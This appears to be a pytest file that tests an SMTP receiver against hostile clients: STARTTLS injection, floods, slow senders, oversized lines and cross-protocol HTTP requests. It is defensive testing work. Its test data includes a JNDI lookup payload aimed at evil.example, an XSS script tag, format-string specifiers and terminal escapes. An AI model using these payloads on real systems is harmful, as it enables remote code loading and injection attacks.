"""Clients that are slow, loud, endless, speak another protocol or half of one: what they are told, what they can occupy, and
that nobody else notices.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import ssl

import pytest

from pipeline.units import Duration, Size
from tests.support.hostile import asked, in_pieces, nothing_came, rest
from tests.support.receiver import Receiver, receiver
from tests.workers.receiver.test_time import saying
from tests.workers.receiver.test_tls import blind
from workers.receiver import protocol as protocol_module
from workers.receiver.connection import MAX_LINE

SHORT = Duration.parse("100ms")
LONG = Duration.parse("1h")
ENVELOPE = b"MAIL FROM:<a@b.example>\r\nRCPT TO:<user@example.test>\r\nDATA\r\n"
MESSAGE = b"Subject: x\r\n\r\nbody\r\n"
TRANSACTION = ENVELOPE + MESSAGE + b".\r\n"
UNKNOWN = "500 5.5.2 Command not recognised"
SYNTAX = "500 5.5.2 Syntax error"
TOO_LONG = "500 5.5.2 Command line too long"


async def served(gate: Receiver) -> None:
    """Another client is, from its connection to 250."""
    client = await gate.client()
    before = len(gate.intake.accepted)
    assert (await client.deliver(MESSAGE)).startswith("250 2.0.0 accepted as ")
    assert len(gate.intake.accepted) == before + 1
    assert await client.ask(b"QUIT") == "221 2.0.0 Bye"


# STARTTLS and what comes with it


def hello() -> bytes:
    """The first octets of a real handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with pytest.raises(ssl.SSLWantReadError):
        blind().wrap_bio(incoming, outgoing, server_hostname="mx.example.test").do_handshake()
    return outgoing.read()


@pytest.mark.parametrize(
    "injected",
    [
        b"EHLO evil.example\r\n" + TRANSACTION,
        b"EHLO evil.example\r\nMAIL FROM:<evil@evil.example>\r\n",
        b"NOOP\r\n" * 1000,
        b"NOOP",
        b"EHLO evil.example\r\nSTARTTLS\r\n",
        b"\r\n",
        b"\0" * 100,
    ],
    ids=["transaction", "sender", "flood", "half a command", "starttls", "empty line", "nul"],
)
async def test_what_came_in_the_clear_behind_starttls_is_thrown_away(gate, injected):
    """CVE-2011-0411: whoever sits in the middle could put commands before those of the client."""
    client = await gate.client()
    client.send(b"STARTTLS\r\n" + injected)
    assert await client.reply() == "220 2.0.0 Ready to start TLS"
    await client.writer.start_tls(blind(), server_hostname="mx.example.test")
    assert await client.ask(b"MAIL FROM:<a@b.example>") == "503 5.5.1 Send HELO or EHLO first"
    client.send(b"EHLO client.example\r\n")
    assert (await client.lines())[0] == "250-mx.example.test"
    await nothing_came(gate, client)
    assert gate.intake.last.client.helo == "client.example"
    assert gate.intake.last.client.protocol == "ESMTPS"


async def test_a_transaction_from_before_tls_is_not_there_after_it(gate):
    client = await gate.client()
    client.send(b"MAIL FROM:<evil@evil.example>\r\nRCPT TO:<other@example.test>\r\n")
    await client.expect("250 2.1.0", "250 2.1.5")
    await client.start_tls(blind())
    assert await client.ask(b"DATA") == "503 5.5.1 Send MAIL first"
    client.send(b"EHLO client.example\r\n")
    await client.lines()
    assert await client.ask(b"DATA") == "503 5.5.1 Send MAIL first"
    await nothing_came(gate, client)
    assert [spec.address for spec in gate.intake.last.recipients] == ["user@example.test"]


async def test_starttls_within_data_is_content(gate):
    client = await gate.client()
    await client.begin()
    client.send(b"STARTTLS\r\n" + MESSAGE + b".\r\nNOOP\r\n")
    await client.expect("250 2.0.0 accepted", "250 2.0.0 OK")
    assert gate.intake.bodies == [b"STARTTLS\r\n" + MESSAGE]


async def test_starttls_within_tls_is_refused_and_nothing_behind_it_is_lost(gate):
    """There nobody can inject anything, so what is pipelined is the client's own."""
    client = await gate.client()
    await client.start_tls(blind())
    client.send(b"EHLO client.example\r\nSTARTTLS\r\n" + TRANSACTION)
    await client.lines()
    await client.expect("503 5.5.1 TLS is already active", "250 2.1.0", "250 2.1.5", "354 ", "250 2.0.0 accepted")


GARBAGE = {
    "http": b"GET / HTTP/1.1\r\nHost: mx\r\n\r\n",
    "smtp": b"EHLO client.example\r\n" + TRANSACTION,
    "zeros": bytes(5000),
    "a record of the wrong version": b"\x16\x09\x09\x00\x05hello",
    "a record that is too large": b"\x16\x03\x01\xff\xff" + bytes(5000),
    "an alert": b"\x15\x03\x01\x00\x02\x02\x28",
    "application data": b"\x17\x03\x03\x00\x20" + bytes(32),
    "a hello with nonsense in it": b"\x16\x03\x01\x00\x50\x01\x00\x00\x4c\x03\x03" + b"\xff" * 74,
}


@pytest.mark.parametrize("garbage", GARBAGE.values(), ids=GARBAGE)
async def test_garbage_instead_of_a_handshake_ends_the_connection_without_a_word_in_the_clear(
    gate, garbage, caplog, capsys
):
    client = await gate.client()
    assert await client.ask(b"STARTTLS") == "220 2.0.0 Ready to start TLS"
    client.send(garbage)
    said = await rest(client)
    assert said == b"" or said.startswith(b"\x15\x03")  # at most a TLS alert
    await gate.idle()
    assert gate.intake.accepted == []
    assert not [record for record in caplog.records if record.exc_info]
    assert "Traceback" not in capsys.readouterr().err
    await served(gate)


@pytest.mark.parametrize(
    "sent", [b"", hello()[:1], hello()[:-1], hello()], ids=["nothing", "an octet", "most of a hello", "a hello"]
)
async def test_a_handshake_that_is_never_finished_is_given_up_and_nobody_waits_for_it(gate, sent, monkeypatch):
    monkeypatch.setattr(protocol_module, "TLS_HANDSHAKE", 0.1)
    unfinished = await gate.client()
    assert await unfinished.ask(b"STARTTLS") == "220 2.0.0 Ready to start TLS"
    unfinished.send(sent)
    await served(gate)
    said = await rest(unfinished)
    assert said == b"" or said[0] in (0x15, 0x16)
    await gate.idle()


async def test_a_client_hello_that_did_not_wait_for_220_is_thrown_away_like_everything_in_the_clear(gate, monkeypatch):
    monkeypatch.setattr(protocol_module, "TLS_HANDSHAKE", 0.1)
    client = await gate.client()
    client.send(b"STARTTLS\r\n" + hello())
    assert await client.reply() == "220 2.0.0 Ready to start TLS"
    assert await rest(client) == b""
    await gate.idle()


# Slow ones and loud ones


@pytest.mark.parametrize("words", [b"N", b"\r", b" ", b"\0"])
async def test_many_that_trickle_a_command_are_let_go_and_others_are_served_meanwhile(tmp_path, words):
    async with receiver(tmp_path, command_timeout=SHORT) as gate:
        slow = [await gate.client() for _ in range(20)]
        async with contextlib.AsyncExitStack() as trickling:
            for client in slow:
                await trickling.enter_async_context(saying(client, words))
            last_words = asyncio.gather(*(client.reply() for client in slow))
            await served(gate)
            assert set(await last_words) == {"421 4.4.2 Timeout, closing the connection"}
        await gate.idle()


FLOODS = {
    b"NOOP": "250 2.0.0 OK",
    b"RSET": "250 2.0.0 OK",
    b"VRFY x": "252 2.0.0 Cannot verify; send the message and see",
    b"": UNKNOWN,
    b"\xff\xfe\xfd": UNKNOWN,
    b"NOOP\0": SYNTAX,
    b"DATA": "503 5.5.1 Send MAIL first",
    b"MAIL FROM:<a b@c.example>": "501 5.1.7 Bad sender address syntax",
    b"RCPT TO:<user@strange.example>": "503 5.5.1 Send MAIL first",
    b"HELO client.example": "250 mx.example.test",
    b"x" * MAX_LINE: TOO_LONG,
}


@pytest.mark.parametrize(("command", "reply"), FLOODS.items(), ids=[repr(command[:20]) for command in FLOODS])
async def test_a_flood_of_one_command_is_answered_to_the_last_while_others_are_served(gate, command, reply):
    count = 3000
    client = await gate.client()
    client.send((command + b"\r\n") * count)
    answers = asyncio.ensure_future(client.reader.readexactly(count * (len(reply) + 2)))
    await served(gate)
    async with asyncio.timeout(20):
        assert await answers == (reply.encode() + b"\r\n") * count
    before = len(gate.intake.accepted)
    assert (await client.deliver(MESSAGE)).startswith("250 2.0.0")
    assert len(gate.intake.accepted) == before + 1


@pytest.mark.parametrize("command", [b"EHLO x\r\n", b"HELP\r\n", b"\r\n"])
async def test_who_takes_no_answers_is_read_no_further_and_others_are_served(gate, command):
    """So what it can occupy is bounded: seen from its side, the receiver takes only so much of what it sends.

    With the buffers of both kernels kept small, that is what waits in the receiver, for the task and for the client.
    """
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8192)
    sock.setblocking(False)
    loop = asyncio.get_running_loop()
    await loop.sock_connect(sock, ("127.0.0.1", gate.server.port))
    flood = command * ((64 << 10) // len(command))
    taken = 0
    try:
        async with asyncio.timeout(20):
            while True:
                # Once nothing was taken while two other clients were served, nothing will be.
                before = taken
                for _ in range(2):
                    await served(gate)
                    try:
                        while taken < 64 << 20:
                            taken += sock.send(flood)
                            await asyncio.sleep(0)
                    except BlockingIOError:
                        pass
                if taken == before:
                    break
        assert 0 < taken < 4 << 20
    finally:
        sock.close()
    await gate.idle()


# Lines


@pytest.mark.parametrize(
    ("line", "replies"),
    [
        (b"x" * (MAX_LINE - 2), [UNKNOWN]),
        (b"x" * (MAX_LINE - 1), [TOO_LONG]),
        # What stands behind the limit is the rest of the line, whatever it looks like, and however much there is.
        (b"x" * MAX_LINE + b"MAIL FROM:<a@b.example>", [TOO_LONG]),
        (b"x" * (MAX_LINE - 1) + b"\rRSET", [TOO_LONG]),
        (b"NOOP " + b"x" * 5_000_000, [TOO_LONG]),
        (b"\0" * 1_000_000, [TOO_LONG]),
        (b"\r" * 1_000_000, [TOO_LONG]),
        (b"RCPT TO:<" + b"@a," * 700 + b"@c:user@example.test>", [TOO_LONG]),
        (b"RCPT TO:<" + b"@a," * 600 + b"@c:user@example.test>", ["250 2.1.5 Recipient OK"]),
        (b"RCPT TO:<user@example.test>" + b" " * 2000, ["250 2.1.5 Recipient OK"]),
        (b"RCPT TO:<user@example.test> " + b"a=b " * 490, ["555 5.5.4 Parameter not recognised or not implemented"]),
        (b"RCPT TO:<" + b'"' * 2000 + b"@example.test>", ["501 5.1.3 Bad recipient address syntax"]),
        (b"RCPT TO:<" + b'"\\' * 1000 + b"@example.test>", ["501 5.1.3 Bad recipient address syntax"]),
        (b"RCPT TO:<" + b"a." * 1000 + b"@example.test>", ["501 5.1.3 Bad recipient address syntax"]),
        (b"RCPT TO:<a@" + b"b." * 1000 + b">", ["501 5.1.3 Bad recipient address syntax"]),
        (b"x\ny", ["500 5.5.2 Lines must end with CR LF", UNKNOWN]),
    ],
    ids=lambda value: f"{value[:18]}-{len(value)}" if isinstance(value, bytes) else "",
)
@pytest.mark.parametrize("cut", [None, 1000])
async def test_a_line_at_the_limit_is_a_command_and_one_above_is_none_with_all_that_is_in_it(gate, line, replies, cut):
    client = await gate.client()
    await client.ask(b"MAIL FROM:<a@b.example>")
    whole = line + b"\r\n"
    if cut is None or len(whole) > 10_000:
        client.send(whole)
    else:
        await in_pieces(client, [whole[at : at + cut] for at in range(0, len(whole), cut)])
    await client.expect(*replies)
    await nothing_came(gate, client)


async def test_a_line_without_an_end_keeps_nobody_waiting_and_does_not_grow(tmp_path):
    # Time enough to send all of it on a busy machine: what is not read when the connection ends resets it.
    async with receiver(tmp_path, command_timeout=Duration.parse("1500ms")) as gate:
        client = await gate.client()
        for _ in range(64):
            client.send(b"x" * (1 << 16))
            await client.writer.drain()
        assert all(len(connection._input) <= MAX_LINE for connection in gate.server._common.connections)
        await served(gate)
        assert (await rest(client)).endswith(b"421 4.4.2 Timeout, closing the connection\r\n")


LONGEST_DOMAIN = b".".join([b"d" * 63] * 3 + [b"d" * 61])
EDGES = {
    b"l" * 64 + b"@strange.example": "550 5.7.1",
    b"l" * 255 + b"@strange.example": "550 5.7.1",
    b"l" * 256 + b"@strange.example": "501 5.1.3",
    b'"' + b"l" * 253 + b'"@all.test': "250 2.1.5",
    b'"' + b"l" * 254 + b'"@all.test': "501 5.1.3",
    b'"' + b"\\l" * 126 + b'"@all.test': "250 2.1.5",
    b"l" * 255 + b"@all.test": "250 2.1.5",
    b"l" * 256 + b"@all.test": "501 5.1.3",
    b"user@" + b"d" * 63 + b".example": "550 5.7.1",
    b"user@" + b"d" * 64 + b".example": "501 5.1.3",
    b"user@" + LONGEST_DOMAIN: "550 5.7.1",
    b"user@" + LONGEST_DOMAIN + b"d": "501 5.1.3",
    b"l" * 255 + b"@" + LONGEST_DOMAIN: "550 5.7.1",
    ("ü" * 127).encode() + b"@all.test": "250 2.1.5",
    ("ü" * 128).encode() + b"@all.test": "501 5.1.3",
    b"user@" + ("ü" * 57).encode() + b".example": "550 5.7.1",
    b"user@" + ("ü" * 58).encode() + b".example": "501 5.1.3",
    b"user@" + ("ü" * 300).encode(): "501 5.1.3",
    "user@\u0627".encode() + "\u0660".encode() * 900: "501 5.1.3",
}


async def test_local_parts_and_domains_pass_up_to_their_limits_and_no_further(gate):
    client = await gate.client()
    replies = await asked(
        client, *[b"<" + one + b">" for one in EDGES], sender=b"<" + b"s" * 255 + b"@" + LONGEST_DOMAIN + b"> SMTPUTF8"
    )
    assert {one[1:-1]: reply[:9] for one, reply in replies.items()} == EDGES
    client.send(b"DATA\r\n" + MESSAGE + b".\r\n")
    await client.expect("354", "250 2.0.0 accepted as id-1-all.test")
    assert gate.intake.last.sender == "s" * 255 + "@" + LONGEST_DOMAIN.decode()
    assert [spec.address.encode() for spec in gate.intake.last.recipients] == [
        one for one, reply in EDGES.items() if reply.startswith("250")
    ]
    assert await client.ask(b"MAIL FROM:<" + b"s" * 256 + b"@b.example>") == "501 5.1.7 Bad sender address syntax"
    assert await client.ask(b"MAIL FROM:<s@" + LONGEST_DOMAIN + b"d>") == "501 5.1.7 Bad sender address syntax"


# Messages of odd shapes


@pytest.mark.parametrize(
    "content",
    [
        b"", b"\r\n", b"\r\n\r\n", b"no header\r\n", b" \r\n", b"\tcontinued\r\n", b":\r\n",
        b"X: " + b"y" * 3_000_000 + b"\r\n\r\n", b"X" * 3_000_000 + b": y\r\n\r\n", b"X: y\r\n" + b" z\r\n" * 500_000 + b"\r\n",
        b"Received:" + b" " * 2_000_000 + b"\r\n\r\n", b"\xff" * 100_000 + b"\r\n", bytes(range(1, 10)) + b"\x0b\x0c\x1b" + b"\r\n",
    ],
    ids=lambda content: f"{content[:12]}-{len(content)}",
)  # fmt: skip
async def test_a_message_of_any_shape_without_bare_line_ends_is_kept_as_it_is(gate, content):
    client = await gate.client()
    await client.begin()
    client.send(content + b".\r\n")
    assert await client.reply() == "250 2.0.0 accepted as id-1-example.test"
    assert gate.intake.bodies == [content]
    assert await client.ask(b"NOOP") == "250 2.0.0 OK"
    assert gate.drafts.left_behind == []


@pytest.mark.parametrize("setting", ["refuse", "normalise"])
@pytest.mark.parametrize("piece", [50_000, 1])
async def test_the_size_limit_is_exact_in_octets_kept_wherever_the_stream_is_cut(tmp_path, setting, piece):
    limit = 3000 if piece == 1 else 600_000
    async with receiver(tmp_path, max_message_size=Size(limit), bare_newlines=setting) as gate:
        client = await gate.client()
        for over in (0, 1, -1):
            content = b"." * (limit + over - 2) + b"\r\n"
            await client.begin()
            stream = b"." + content + b".\r\n"
            await in_pieces(client, [stream[at : at + piece] for at in range(0, len(stream), piece)])
            expected = "552 5.3.4 Message size exceeds the limit" if over > 0 else "250 2.0.0 accepted as "
            await client.expect(expected)
            assert gate.drafts.left_behind == []
        assert [len(body) for body in gate.intake.bodies] == [limit, limit - 1]


# Other protocols

POSTS = {
    "a form": b"POST / HTTP/1.1\r\nHost: mx.example.test:25\r\nContent-Type: text/plain\r\n\r\nEHLO x\r\n"
    + TRANSACTION,
    "a page": b"GET /index.html HTTP/1.0\r\n\r\n",
    "a method of its own": b"X-EVIL / HTTP/1.1\r\n" + TRANSACTION,
    "a proxy": b"CONNECT mx.strange.example:25 HTTP/1.1\r\n\r\nEHLO x\r\n" + TRANSACTION,
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + TRANSACTION,
    "a preflight": b"OPTIONS / HTTP/1.1\r\nOrigin: https://evil.example\r\n\r\n",
}


@pytest.mark.parametrize("request_", POSTS.values(), ids=POSTS)
@pytest.mark.parametrize("greeted", [True, False])
async def test_what_a_browser_or_a_service_was_made_to_send_ends_the_session_before_any_of_it_is_done(
    gate, request_, greeted
):
    """A form that is sent to a mail server has commands in its body, chosen by whoever made the page."""
    client = await gate.connect()
    await client.expect("220 ")
    if greeted:
        client.send(b"EHLO client.example\r\n")
        await client.lines()
    client.send(request_)
    assert await client.reply() == "421 4.7.0 This is a mail server and that was HTTP, closing the connection"
    assert await client.closed()
    await gate.idle()
    assert gate.intake.accepted == []


async def test_http_that_is_content_is_content(gate):
    client = await gate.client()
    await client.begin()
    client.send(POSTS["a page"] + b".\r\nNOOP a HTTP/1.1\r\n")
    await client.expect("250 2.0.0 accepted", "250 2.0.0 OK")
    assert gate.intake.bodies == [POSTS["a page"]]


OTHERS = {
    "SSH": (b"SSH-2.0-OpenSSH_9.2\r\n", [UNKNOWN]),
    "RTSP": (b"OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n\r\n", [UNKNOWN] * 3),
    "Redis": (b"*1\r\n$4\r\nPING\r\n", [UNKNOWN] * 3),
    "FTP": (b"USER root\r\nPASS x\r\n", [UNKNOWN] * 2),
    "LMTP": (b"LHLO client.example\r\n", [UNKNOWN]),
    "XCLIENT": (b"XCLIENT ADDR=192.0.2.1\r\nXFORWARD NAME=x\r\n", [UNKNOWN] * 2),
    "PROXY": (b"PROXY TCP4 192.0.2.1 192.0.2.2 1 25\r\n", [UNKNOWN]),
    "TLS": (hello().replace(b"\n", b"") + b"\r\n", [SYNTAX]),
    "TLS with line ends": (b"\x16\x03\x01\x02\x00\n\x01\0\r\n", ["500 5.5.2 Lines must end with CR LF", SYNTAX]),
    "SOCKS 4": (b"\x04\x01\x00\x19\x7f\x00\x00\x01root\x00\r\n", [SYNTAX]),
    "SOCKS 5": (b"\x05\x02\x00\x02\r\n", [SYNTAX]),
    "escapes": (b"\x1b]0;evil\x07\x1b[2J\r\n", [UNKNOWN]),
    "a command behind a control character": (b"\x1bMAIL FROM:<a@b.example>\r\n", [UNKNOWN]),
    "a command behind a byte order mark": (b"\xef\xbb\xbfMAIL FROM:<a@b.example>\r\n", [UNKNOWN]),
    "a command in fullwidth": ("\uff2d\uff21\uff29\uff2c FROM:<a@b.example>\r\n".encode(), [UNKNOWN]),
    "a command that a capital makes": ("\u0131 x\r\nma\u0131l FROM:<a@b.example>\r\n".encode(), [UNKNOWN] * 2),
    "a command with a tab": (b"MAIL\tFROM:<a@b.example>\r\n", [UNKNOWN]),
}


@pytest.mark.parametrize(("words", "replies"), OTHERS.values(), ids=OTHERS)
async def test_other_protocols_are_commands_that_nobody_knows_and_nothing_of_them_is_said_back(gate, words, replies):
    client = await gate.client()
    client.send(words)
    assert [await client.reply() for _ in replies] == replies
    await nothing_came(gate, client)


async def test_any_octets_get_a_refusal_each_line_or_nothing_and_never_a_message(gate):
    """All octets in all places of a line; 421 never, for a client without limits."""
    client = await gate.client()
    lines = [bytes([first, second]) for first in range(256) for second in (0, 9, 10, 13, 32, 127, 255)]
    stream = b"\r\n".join(lines) + b"\r\n"
    client.send(stream + b"QUIT\r\n")
    said = (await rest(client)).decode("ascii").splitlines()
    assert len(said) == stream.count(b"\n") + 1
    assert said.pop() == "221 2.0.0 Bye"
    assert {reply[:9] for reply in said} == {"500 5.5.2"}
    assert gate.intake.accepted == []


# HELO


@pytest.mark.parametrize("verb", [b"HELO", b"EHLO"])
async def test_a_greeting_with_an_argument_that_is_no_word_of_printable_ascii_is_none(gate, verb):
    bad = [
        b"", b" ", b"a b", b"a\tb", b"a\x0bb", b"a\x1b[31mb", b"a\x7fb", b"\x01", b"a\x08b", "\u00e4.example".encode(), "a\u202eb".encode(),
        "a\u2028b".encode(), "a\u0085b".encode(), "\ufeffa".encode(), b"x" * 256, b"x" * 2000, b"[192.0.2.1] x",
    ]  # fmt: skip
    client = await gate.connect()
    await client.expect("220 ")
    client.send(b"".join(verb + b" " + one + b"\r\n" for one in bad))
    for one in bad:
        assert await client.reply() == "501 5.5.4 Syntax: HELO or EHLO, and a host name or address literal", one
    client.send(verb + b" a\xff\r\n" + verb + b" a\0b\r\n" + verb + b" a\rb\r\n")
    await client.expect(SYNTAX, SYNTAX, SYNTAX)
    assert await client.ask(b"MAIL FROM:<>") == "503 5.5.1 Send HELO or EHLO first"


HELOS = [
    b"[192.0.2.1]", b"[IPv6:2001:db8::1]", b"[", b"[]]", b"(comment)", b"a)(b", b"a;b", b'"quoted"', b"<script>alert(1)</script>", b"a@b",
    b"[bold]x[/bold]", b"[link=http://evil.example]x[/link]", b"%s%n{0}${jndi:ldap://evil.example/a}", b"\\", b"x" * 255, b"-", b"..", b"=?utf-8?q?=0A?=",
]  # fmt: skip


async def test_any_other_is_remembered_as_it_was_said(gate):
    for helo in HELOS:
        client = await gate.client(b"EHLO " + helo)
        assert (await client.deliver(MESSAGE)).startswith("250")
        assert gate.intake.last.client.helo == helo.decode()
